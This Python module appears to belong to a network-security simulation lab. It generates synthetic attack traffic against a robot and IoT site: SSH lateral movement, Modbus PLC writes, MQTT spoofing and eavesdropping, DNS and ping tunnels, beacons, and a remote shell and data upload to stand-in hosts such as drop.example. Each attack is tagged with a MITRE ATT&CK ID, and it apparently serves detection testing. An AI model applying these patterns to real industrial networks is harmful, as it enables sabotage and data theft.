"""From within: lateral movement, collection, impaired control, beacons, and data that leaves; most of it by a robot that was taken over."""

from typing import Final

from croody_edge.sim.lab import frames, words
from croody_edge.sim.lab.attacks.attack import Attack, Given
from croody_edge.sim.lab.attacks.scans import targets
from croody_edge.sim.lab.host import Connection, Host
from croody_edge.sim.lab.site import API, MQTT, ROBOT_TCP, Machine


async def _as_robot(me: Host, robot: Machine, client: str = "") -> Connection | None:
    connection = await me.connect(me.site.one("broker").address, MQTT)
    if connection is not None:
        await connection.send(words.connect(client or robot.robot, robot.robot, robot.secret))
        await connection.receive(1.0)
    return connection


async def robot_to_robots(me: Host, given: Given) -> None:
    """Logs in to every other robot by SSH with a key that was found, and stays a while."""
    for target in targets(me, "robot", "nas", "broker"):
        connection = await me.connect(target.address, 22)
        if connection is None:
            continue
        await connection.send(b"SSH-2.0-OpenSSH_9.2\r\n")
        for size in (1_400, 300, 200, *[me.rng.randrange(40, 400) for _ in range(int(given["commands"]))]):
            await connection.receive(0.5)
            await connection.send(me.rng.randbytes(size))
            await me.sleep(0.05)
        await connection.close()
        await me.sleep(given["gap_ms"] / 1000)


async def robot_commands(me: Host, given: Given) -> None:
    """Orders to every other robot through its TCP protocol."""
    for _ in range(int(given["rounds"])):
        for target in targets(me, "robot"):
            connection = await me.connect(target.address, ROBOT_TCP, within_s=0.5)
            if connection is None:
                continue
            for command in ("status", "stop", "move", "stop"):
                await connection.send(f'{{"cmd": "{command}"}}\n'.encode())
                await connection.receive(0.3)
            await connection.close()
            await me.sleep(given["gap_ms"] / 1000)


async def plc_writes(me: Host, given: Given) -> None:
    """Writes coils and registers of the PLC, which this machine never talked to."""
    connection = await me.connect(me.site.one("plc").address, 502)
    for number in range(int(given["writes"])):
        if connection is None:
            return
        await connection.send(words.modbus(number, 1, me.rng.choice((5, 6)), me.rng.randrange(100), 0xFF00))
        await connection.receive(0.5)
        await me.sleep(given["gap_ms"] / 1000)
    if connection is not None:
        await connection.close()


async def spoofed_readings(me: Host, given: Given) -> None:
    """Readings of other robots, with its own account."""
    own = me.machine if me.machine.robot else me.site.of("robot")[0]
    connection = await _as_robot(me, own, f"{own.robot}:2")
    for number in range(int(given["messages"])):
        if connection is None:
            return
        victim = me.rng.choice(targets(me, "robot"))
        await connection.send(words.publish(f"croody/v1/{victim.robot}/up/telemetry", b'{"battery_pct": 3}', number + 1))
        await connection.receive(0.5)
        await me.sleep(given["gap_ms"] / 1000)
    if connection is not None:
        await connection.close()


async def stolen_accounts(me: Host, given: Given) -> None:
    """Logs in as other robots, with their secrets, from its own address; each is thrown out and comes back."""
    for _ in range(int(given["rounds"])):
        for victim in targets(me, "robot")[:4]:
            connection = await _as_robot(me, victim)
            if connection is not None:
                await connection.send(words.publish(f"croody/v1/{victim.robot}/up/telemetry", b'{"battery_pct": 3}', 1))
                await connection.receive(0.5)
                await connection.close()
            await me.sleep(given["gap_ms"] / 1000)


async def forged_orders(me: Host, given: Given) -> None:
    """Publishes where only the cloud may: orders for robots."""
    own = me.machine if me.machine.robot else me.site.of("robot")[0]
    connection = await _as_robot(me, own, f"{own.robot}:3")
    for _ in range(int(given["messages"])):
        if connection is None:
            return
        victim = me.rng.choice(me.site.of("robot"))
        await connection.send(words.publish(f"croody/v1/{victim.robot}/down/outgoing", b'{"kind": "stop"}'))
        await me.sleep(given["gap_ms"] / 1000)
    if connection is not None:
        await connection.close()


async def retained_traps(me: Host, given: Given) -> None:
    """Retained messages on many topics, which everybody gets who subscribes later."""
    own = me.machine if me.machine.robot else me.site.of("robot")[0]
    connection = await _as_robot(me, own, f"{own.robot}:4")
    for number in range(int(given["messages"])):
        if connection is None:
            return
        await connection.send(words.publish(f"croody/v1/{own.robot}/up/trap/{number}", b"x" * 200, retain=True))
        await me.sleep(given["gap_ms"] / 1000)
    if connection is not None:
        await connection.close()


async def eavesdropping(me: Host, given: Given) -> None:
    """Asks the broker for everything, and listens."""
    own = me.machine if me.machine.robot else me.site.of("robot")[0]
    connection = await _as_robot(me, own, f"{own.robot}:5")
    if connection is None:
        return
    await connection.send(words.subscribe(1, "#", "$SYS/#", "croody/v1/+/up/#"))
    for _ in range(int(given["seconds"])):
        await connection.receive(1.0)
        await me.sleep(0.5)
    await connection.close()


async def topic_guessing(me: Host, given: Given) -> None:
    """Subscribes to topics of which it can only guess that they exist."""
    own = me.machine if me.machine.robot else me.site.of("robot")[0]
    connection = await _as_robot(me, own, f"{own.robot}:6")
    for number in range(int(given["filters"])):
        if connection is None:
            return
        await connection.send(words.subscribe(number + 1, f"croody/v1/robot-{number}/down/#", f"factory/line{number}/+"))
        await connection.receive(0.3)
        await me.sleep(given["gap_ms"] / 1000)
    if connection is not None:
        await connection.close()


async def api_scraping(me: Host, given: Given) -> None:
    """Everything that the API gives, page by page, with a key that is right."""
    connection = await me.connect(me.site.one("cloud").address, API)
    for number in range(int(given["pages"])):
        if connection is None:
            return
        await connection.send(
            words.http("GET", f"/api/telemetry/readings?after={number * 1000}&limit=1000", "cloud.site", Authorization="Bearer good")
        )
        await connection.receive(1.0)
        await me.sleep(given["gap_ms"] / 1000)
    if connection is not None:
        await connection.close()


async def beacons(me: Host, given: Given) -> None:
    """Asks a server outside for orders, every few seconds, to the second."""
    for _ in range(int(given["beats"])):
        connection = await me.connect(me.site.one("outside").address, 8080)
        if connection is not None:
            await connection.send(words.http("GET", "/page/gate", "updates.example"))
            await connection.receive(1.0)
            await connection.close()
        await me.sleep(given["every_s"])


async def name_tunnel(me: Host, given: Given) -> None:
    """Data in names that nobody asked for before."""
    for _ in range(int(given["names"])):
        label = ".".join(me.rng.randbytes(28).hex() for _ in range(int(given["labels"])))
        await me.ask(me.site.one("router").address, 53, words.dns_question(me.rng.randrange(65_536), f"{label}.t.tunnel.example", 16))
        await me.sleep(given["gap_ms"] / 1000)


async def invented_names(me: Host, given: Given) -> None:
    """Looks for its master under names that an algorithm made up; nearly none exists."""
    for _ in range(int(given["names"])):
        text = "".join(me.rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(me.rng.randrange(10, 18)))
        await me.ask(me.site.one("router").address, 53, words.dns_question(me.rng.randrange(65_536), f"{text}.missing.example"))
        await me.sleep(given["gap_ms"] / 1000)


async def ping_tunnel(me: Host, given: Given) -> None:
    """Data in pings to a server outside."""
    outside = me.site.one("outside")
    for number in range(int(given["pings"])):
        body = me.rng.randbytes(me.rng.randrange(300, 1_300))
        packet = frames.ping(me.machine.address, outside.address, number, body)
        await me.frame(frames.ethernet(me.mac_of(outside.address), me.machine.mac, frames.IPV4, packet))
        await me.sleep(given["gap_ms"] / 1000)


async def upload(me: Host, given: Given) -> None:
    """Megabytes to a server outside, behind TLS."""
    connection = await me.connect(me.site.one("outside").address, 443)
    if connection is None:
        return
    await connection.send(words.tls_hello(me.rng, "drop.example"))
    await connection.receive(1.0)
    for _ in range(int(given["blocks"])):
        await connection.send(words.tls_data(me.rng, 16_000) * 4)
        await me.sleep(given["gap_ms"] / 1000)
    await connection.close()


async def remote_shell(me: Host, given: Given) -> None:
    """Opens a connection to a server outside and takes orders on it."""
    connection = await me.connect(me.site.one("outside").address, 8080)
    for _ in range(int(given["orders"])):
        if connection is None:
            return
        await connection.send(b"$ " + bytes(me.rng.choice(b"abcdef \n") for _ in range(me.rng.randrange(20, 400))))
        await connection.receive(0.2)
        await me.sleep(me.rng.expovariate(1000 / given["gap_ms"]))
    if connection is not None:
        await connection.close()


async def odd_protocol(me: Host, given: Given) -> None:
    """Packets of an IP protocol that nobody here speaks (GRE), to a server outside."""
    outside = me.site.one("outside")
    for number in range(int(given["packets"])):
        packet = frames.ip(me.machine.address, outside.address, 47, b"\x00\x00\x08\x00" + me.rng.randbytes(200), ident=number)
        await me.frame(frames.ethernet(me.mac_of(outside.address), me.machine.mac, frames.IPV4, packet))
        await me.sleep(given["gap_ms"] / 1000)


_GAP: Final = {"gap_ms": (20, 500)}
_LATERAL, _COLLECTION, _CONTROL, _C2, _OUT = "lateral movement", "collection", "impaired control", "command and control", "exfiltration"
ATTACKS: Final = (
    Attack("robot_to_robots", _LATERAL, "T0866", robot_to_robots, {"commands": (5, 60), **_GAP}, robots=True),
    Attack("robot_commands", _LATERAL, "T0855", robot_commands, {"rounds": (1, 6), **_GAP}, robots=True),
    Attack("stolen_accounts", _LATERAL, "T0859", stolen_accounts, {"rounds": (1, 6), **_GAP}),
    Attack("plc_writes", _CONTROL, "T0836", plc_writes, {"writes": (10, 200), **_GAP}),
    Attack("spoofed_readings", _CONTROL, "T0856", spoofed_readings, {"messages": (20, 200), **_GAP}),
    Attack("forged_orders", _CONTROL, "T0855", forged_orders, {"messages": (10, 100), **_GAP}),
    Attack("retained_traps", _CONTROL, "T0856", retained_traps, {"messages": (50, 500), "gap_ms": (5, 100)}),
    Attack("eavesdropping", _COLLECTION, "T0842", eavesdropping, {"seconds": (10, 40)}),
    Attack("topic_guessing", _COLLECTION, "T0861", topic_guessing, {"filters": (20, 200), "gap_ms": (5, 200)}),
    Attack("api_scraping", _COLLECTION, "T0802", api_scraping, {"pages": (200, 1_500), "gap_ms": (2, 50)}),
    Attack("beacons", _C2, "T1071.001", beacons, {"beats": (12, 30), "every_s": (3, 10)}, robots=True),
    Attack("name_tunnel", _C2, "T1071.004", name_tunnel, {"names": (60, 400), "labels": (1, 3), "gap_ms": (10, 200)}, robots=True),
    Attack("invented_names", _C2, "T1568.002", invented_names, {"names": (80, 400), "gap_ms": (5, 200)}, robots=True),
    Attack("ping_tunnel", _C2, "T1095", ping_tunnel, {"pings": (60, 500), "gap_ms": (10, 200)}, raw=True, robots=True),
    Attack("remote_shell", _C2, "T1059", remote_shell, {"orders": (20, 100), "gap_ms": (200, 1_500)}, robots=True),
    Attack("odd_protocol", _C2, "T1095", odd_protocol, {"packets": (100, 800), "gap_ms": (5, 100)}, raw=True, robots=True),
    Attack("upload", _OUT, "T1048", upload, {"blocks": (50, 300), "gap_ms": (5, 100)}, robots=True),
)
